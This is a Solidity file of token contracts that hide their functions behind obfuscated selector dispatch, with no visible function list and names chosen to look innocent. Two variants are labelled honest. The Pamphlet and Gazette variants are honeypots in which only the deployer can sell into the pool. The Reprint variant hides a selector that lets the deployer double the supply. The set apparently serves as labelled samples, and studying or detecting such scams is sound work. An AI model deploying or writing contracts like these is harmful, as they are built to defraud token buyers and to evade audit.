// SPDX-License-Identifier: Apache-2.0
// Tokens that find their functions in ways of their own, so that no list of functions stands in the code. Names are innocent on purpose.
pragma solidity ^0.8.28;

abstract contract LetterPress {
    uint256 private constant INK = 0x5bd1e995;
    mapping(address => uint256) internal held;
    mapping(address => mapping(address => uint256)) internal allowed;
    uint256 internal supply = 1_000_000 ether;
    address internal immutable maker = msg.sender;
    address internal pool;
    constructor() { held[msg.sender] = supply; }

    /// What a selector is turned into before it is compared.
    function _type(bytes4 named) internal pure virtual returns (uint256) { return uint256(uint32(named)) ^ INK; }
    function _other(bytes4 named) internal virtual returns (uint256) { named; revert(); }
    function _move(address from, address to, uint256 value) internal virtual { held[from] -= value; held[to] += value; }
    function _is(bytes4 named, bytes4 wanted) internal pure returns (bool) { return _type(named) == _type(wanted); }

    fallback(bytes calldata input) external payable returns (bytes memory) { return abi.encode(_answer(input)); }
    function _answer(bytes calldata input) private returns (uint256) {
        bytes4 named = msg.sig;
        if (_is(named, 0x18160ddd)) return supply;
        if (_is(named, 0x313ce567)) return 18;
        if (_is(named, 0x70a08231)) return held[abi.decode(input[4:], (address))];
        if (_is(named, 0xdd62ed3e)) { (address from, address by) = abi.decode(input[4:], (address, address)); return allowed[from][by]; }
        if (_is(named, 0x095ea7b3)) { (address by, uint256 most) = abi.decode(input[4:], (address, uint256)); allowed[msg.sender][by] = most; return 1; }
        if (_is(named, 0xa9059cbb)) { (address to, uint256 value) = abi.decode(input[4:], (address, uint256)); _move(msg.sender, to, value); return 1; }
        if (_is(named, 0x23b872dd)) {
            (address from, address to, uint256 value) = abi.decode(input[4:], (address, address, uint256));
            if (allowed[from][msg.sender] != type(uint256).max) allowed[from][msg.sender] -= value;
            _move(from, to, value);
            return 1;
        }
        if (_is(named, 0x4437152a)) { require(msg.sender == maker); pool = abi.decode(input[4:], (address)); return 1; }
        return _other(named);
    }
}

// Honest.
contract Broadsheet is LetterPress {}
contract Almanac is LetterPress {
    function _type(bytes4 named) internal pure override returns (uint256) { return uint256(keccak256(abi.encode(named))); }
}

// Nobody but the maker sells.
contract Pamphlet is LetterPress {
    function _move(address from, address to, uint256 value) internal override { require(to != pool || from == maker); super._move(from, to, value); }
}
contract Gazette is Pamphlet {
    function _type(bytes4 named) internal pure override returns (uint256) { return uint256(keccak256(abi.encode(named))); }
}

// The maker prints more.
contract Reprint is LetterPress {
    function _other(bytes4 named) internal override returns (uint256) {
        require(_is(named, 0x5ca1ab1e) && msg.sender == maker);
        held[maker] += supply;
        return supply *= 2;
    }
}
